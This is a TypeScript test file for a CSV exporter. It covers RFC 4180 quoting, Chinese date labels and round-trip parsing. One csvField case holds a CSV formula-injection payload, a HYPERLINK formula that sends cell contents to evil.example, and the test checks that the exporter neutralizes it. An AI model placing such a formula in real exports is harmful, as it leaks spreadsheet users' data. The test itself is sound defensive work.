import { describe, expect, it } from "vitest";
import { FIXTURE_EVENTS } from "../query/fixture.js";
import type { Event, TimexMod } from "../model/index.js";
import type { DateFinding } from "../query/index.js";
import { CSV_COLUMNS, csvField, toCsv } from "./csv.js";
import { dateLabelZh } from "./date-label.js";

/** A small RFC 4180 reader for the round trip (records end in CRLF; quoted fields may hold anything). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        field += ch;
        i += 1;
      }
    } else if (ch === '"') {
      if (field !== "") throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (ch === ",") {
      row.push(field);
      field = "";
      i += 1;
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i += 2;
    } else if (ch === "\r" || ch === "\n") {
      throw new Error(`bare line break at ${i}`);
    } else {
      field += ch;
      i += 1;
    }
  }
  if (quoted) throw new Error("unterminated quote");
  if (field !== "" || row.length > 0) throw new Error("last record lacks CRLF");
  return rows;
}

describe("csvField", () => {
  it.each([
    ["plain", "plain"],
    ["美国, 朝鲜", '"美国, 朝鲜"'],
    ['说"不"', '"说""不"""'],
    ["a\nb", '"a\nb"'],
    ["a\r\nb", '"a\r\nb"'],
    ["", ""],
    ["x;y", "x;y"],
    // OWASP CSV injection: a cell a spreadsheet would run as a formula starts with `'`.
    [
      '=HYPERLINK("http://evil.example/?"&B2&C2,"…")',
      `"'=HYPERLINK(""http://evil.example/?""&B2&C2,""…"")"`,
    ],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", `"'\r=1"`],
    ["-2.5", "-2.5"],
    ["-0221", "-0221"],
    ["a=b", "a=b"],
  ])("%j → %j", (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });
});

describe("toCsv: formula injection", () => {
  it("neutralizes a summary and keeps a negative score a number", () => {
    const event = { ...FIXTURE_EVENTS[0]!, summary: "=1+1", score: -2.5 };
    const [, row] = parseCsv(toCsv([event], { doc: "d" }));
    expect(row?.[CSV_COLUMNS.indexOf("summary")]).toBe("'=1+1");
    expect(row?.[CSV_COLUMNS.indexOf("score")]).toBe("-2.5");
  });
});

describe("toCsv", () => {
  const csv = toCsv(FIXTURE_EVENTS, { doc: "fixture-1" });
  const rows = parseCsv(csv);

  it("has the header and one record per event, CRLF-terminated", () => {
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(FIXTURE_EVENTS.length + 1);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replaceAll("\r\n", "")).not.toMatch(/^[^"]*\n/);
  });

  it("round-trips every field, including commas, quotes and newlines", () => {
    FIXTURE_EVENTS.forEach((event, i) => {
      const record = Object.fromEntries(CSV_COLUMNS.map((c, k) => [c, rows[i + 1]?.[k]]));
      expect(record).toEqual({
        doc: "fixture-1",
        id: event.id,
        date: event.date.value ?? "",
        date_label: dateLabelZh(event.date.value, event.date.mod) ?? "",
        date_inferred: String(event.date.inferred),
        type: event.type,
        score: event.score === null ? "" : String(event.score),
        source: event.actors.source.join(";"),
        target: event.actors.target.join(";"),
        other: event.actors.other.join(";"),
        summary: event.summary,
        start: String(event.mentions[0]?.start),
        end: String(event.mentions[0]?.end),
        rule: event.rule,
        date_suggested: "",
        date_finding: "",
      });
    });
    const sanction = rows.find((r) => r[1] === "e4");
    expect(sanction?.[CSV_COLUMNS.indexOf("summary")]).toBe(
      '美国实施制裁, 包括"粮食|援助"\n的暂停',
    );
  });

  it.each<[string | null, TimexMod | null, string]>([
    ["199", null, "1990年代"],
    ["18", null, "19世纪"],
    ["199", "START", "1990年代初"],
    ["199", "MID", "1990年代中期"],
    ["18", "END", "19世纪末"],
    ["2015-SP", null, "2015年春"],
    ["2009-05-25", null, "2009年5月25日"],
    [null, null, ""],
    ["PRESENT_REF", null, ""],
  ])("date_label of %j %j is %j", (value, mod, label) => {
    const event: Event = {
      ...FIXTURE_EVENTS[0]!,
      date: { ...FIXTURE_EVENTS[0]!.date, value, mod },
    };
    const [, row] = parseCsv(toCsv([event]));
    expect(row?.[CSV_COLUMNS.indexOf("date")]).toBe(value ?? "");
    expect(row?.[CSV_COLUMNS.indexOf("date_label")]).toBe(label);
  });

  it.each<[string, DateFinding | undefined, string, string]>([
    ["no finding", undefined, "", ""],
    [
      "a doubted date",
      { kind: "year-out-of-sequence", suggestion: "2009-04-05", confidence: 0.85 },
      "2009-04-05",
      "year-out-of-sequence 0.85",
    ],
    [
      "an applied suggestion keeps the literal value",
      {
        kind: "inherited-slip",
        suggestion: "2009-05-25",
        confidence: 0.8,
        applied: true,
        literal: "2008-05-25",
      },
      "2009-05-25",
      "inherited-slip 0.80 applied; literal 2008-05-25",
    ],
  ])("date_suggested and date_finding: %s", (_name, dateFinding, suggested, finding) => {
    const event = { ...FIXTURE_EVENTS[0]!, ...(dateFinding ? { dateFinding } : {}) };
    const [, row] = parseCsv(toCsv([event]));
    expect(row?.[CSV_COLUMNS.indexOf("date_suggested")]).toBe(suggested);
    expect(row?.[CSV_COLUMNS.indexOf("date_finding")]).toBe(finding);
    expect(row?.[CSV_COLUMNS.indexOf("date")]).toBe(FIXTURE_EVENTS[0]!.date.value);
  });

  it("prefers an event's own doc over the option", () => {
    const [row] = parseCsv(toCsv([{ ...FIXTURE_EVENTS[0]!, doc: "d9" }], { doc: "x" })).slice(1);
    expect(row?.[0]).toBe("d9");
  });

  it("writes only the header for no events", () => {
    expect(toCsv([])).toBe(`${CSV_COLUMNS.join(",")}\r\n`);
  });

  it("the test reader rejects malformed CSV (so the round trip can fail)", () => {
    expect(() => parseCsv('a,"b\r\n')).toThrow();
    expect(() => parseCsv("a,b\nc\r\n")).toThrow();
  });
});
